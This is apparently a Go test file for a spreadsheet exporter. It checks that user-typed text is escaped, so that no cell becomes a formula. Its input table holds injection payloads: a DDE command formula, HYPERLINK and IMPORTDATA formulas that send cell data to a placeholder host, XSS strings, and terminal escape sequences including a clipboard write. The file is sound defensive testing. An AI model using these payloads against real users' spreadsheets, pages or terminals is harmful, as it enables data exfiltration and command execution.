package xlsx_test

import (
	"fmt"
	"strings"
	"testing"

	"canvass/internal/export"
)

// typed is what people may type to steer a spreadsheet, a terminal or a page, and what
// a reader then sees; "" when that is the same. Line ends are shown as such.
var typed = []struct{ text, seen string }{
	// Formulas.
	{`=1+1`, ""}, {`=HYPERLINK("http://x/?"&A1,"ok")`, ""}, {`=IMPORTDATA("http://x/"&B2)`, ""}, {`=WEBSERVICE("http://x")`, ""}, {`=cmd|'/c calc'!A1`, ""},
	{`@SUM(1)`, ""}, {`+1+1`, ""}, {`-1+1`, ""}, {"\t=1+1", ""}, {"\r=1+1", "\n=1+1"}, {"\n=1+1", ""}, {" =1+1", ""}, {"\ufeff=1+1", ""}, {"＝1+1", ""},
	{`a,"=1+1"`, ""}, {`a;=1+1`, ""}, {`'=1+1`, ""}, {"+44 20 7946 0000", ""}, {"- I agree", ""}, {"@handle", ""},
	// Mechanics of Excel.
	{strings.Repeat("a", 32767), ""}, {strings.Repeat("a", 32768), strings.Repeat("a", 32700) + " [cut, full text in store: r23]"},
	{strings.Repeat("mebibyte", 131072), strings.Repeat("mebibyte", 4087) + "mebi [cut, full text in store: r24]"},
	{strings.Repeat("😀", 16384), strings.Repeat("😀", 16350) + " [cut, full text in store: r25]"},
	{"_x000D_", ""}, {"_x0041_", ""}, {" leading and trailing  ", ""}, {"a\r\nb\rc", "a\nb\nc"}, {"00123", ""}, {"1e5", ""}, {"1/2", ""}, {"MARCH1", ""},
	{"12345678901234567", ""}, {"TRUE", ""}, {"#REF!", ""}, {"\ufffe\uffff", "\ufffd\ufffd"}, {"javascript:alert(1)", ""}, {"a/b:c*?[x]", ""}, {"'q'", ""}, {"History", ""},
	{strings.Repeat("n", 40), ""},
	// Unicode.
	{"José", ""}, {"Jose\u0301", ""}, {"👨‍👩‍👧‍👦", ""}, {"👍🏽🇪🇸", ""}, {"مرحبا abc 123", ""}, {"שלום, עולם!", ""}, {"\u202egpj.exe", "[U+202E]gpj.exe"}, {"\u2066unclosed", ""},
	{"a\u200bna@x.org", ""}, {"Аnа", ""}, {"a" + strings.Repeat("\u0301", 200), ""}, {"nul\x00", "nul␀"}, {"\xed\xa0\x80", "\ufffd\ufffd\ufffd"}, {"\xff\xfe", "\ufffd\ufffd"},
	{"\xc0\xaf", "\ufffd\ufffd"}, {"\ufeffBOM", ""}, {"a\ufeffb", ""}, {"“curly”", ""}, {"a\u2028b\u2029c", ""}, {"a\u0085b", ""}, {"İıß", ""}, {"\u00a0", ""}, {"   ", ""},
	// Terminals.
	{"\x1b[2J", "␛[2J"}, {"\x1b]0;title\a", "␛]0;title␇"}, {"\x1b]8;;http://x\x1b\\", "␛]8;;http://x␛\\"}, {"\x1b]52;c;AAAA\a", "␛]52;c;AAAA␇"}, {"12\r99", "12\n99"},
	{"a\b\b", "a␈␈"}, {"\u009b31m", "\ufffd31m"}, {"\x7f", "␡"}, {strings.Repeat("w", 10000), ""}, {"a\tb", ""},
	// Markup.
	{"<script>alert(1)</script>", ""}, {`"><img src=x onerror=alert(1)>`, ""}, {"</script>", ""}, {"<svg onload=alert(1)>", ""}, {"data:text/html,<b>", ""}, {"{{.Secret}}", ""},
	{"<!--", ""}, {"</style>", ""}, {"&lt;b&gt;", ""}, {"]]>", ""},
}

// TestCatalogue writes all of it as answers, as titles and among the choices, and reads
// it again: seen as typed, and nothing in the file is a formula.
func TestCatalogue(t *testing.T) {
	b := sample()
	rows, columns := [][]export.Cell{}, []export.Column{{Name: "Id", ID: true}, {Name: "Answer", Wrap: true}, {Name: "Short"}}
	for i, c := range typed {
		rows = append(rows, []export.Cell{export.Words(fmt.Sprintf("r%d", i+2)), {Kind: export.Text, Text: c.text}, {Kind: export.Text, Text: c.text}})
		if len(strings.Fields(c.text)) > 0 && len(c.text) < 200 {
			columns = append(columns, export.Column{Name: fmt.Sprintf("%d %s", i, c.text)})
		}
	}
	b.Sheets = append(b.Sheets, export.Sheet{
		Name: "Catalogue", Role: export.Data, Title: "=1+1", Lead: "@SUM(1)", Source: "+1",
		Table: &export.Table{Name: "tbl_catalogue", Columns: columns, Rows: export.Rows(rows)},
	})
	parts := write(t, b)
	s := parts.sheet(t, "Catalogue")
	for i, c := range typed {
		want := c.seen
		if want == "" {
			want = c.text
		}
		for _, column := range []string{"B", "C"} {
			if got := excelText(s.cell(fmt.Sprintf("%s%d", column, 6+i)).one("t").text); got != want {
				t.Errorf("%.40q is seen as %.60q, want %.60q", c.text, got, want)
			}
		}
	}
	for name := range parts {
		for _, c := range parts.parse(t, name).all("c") {
			if len(c.all("f")) > 0 {
				t.Errorf("%s: %s is a formula", name, c.attr["r"])
			}
		}
	}
}
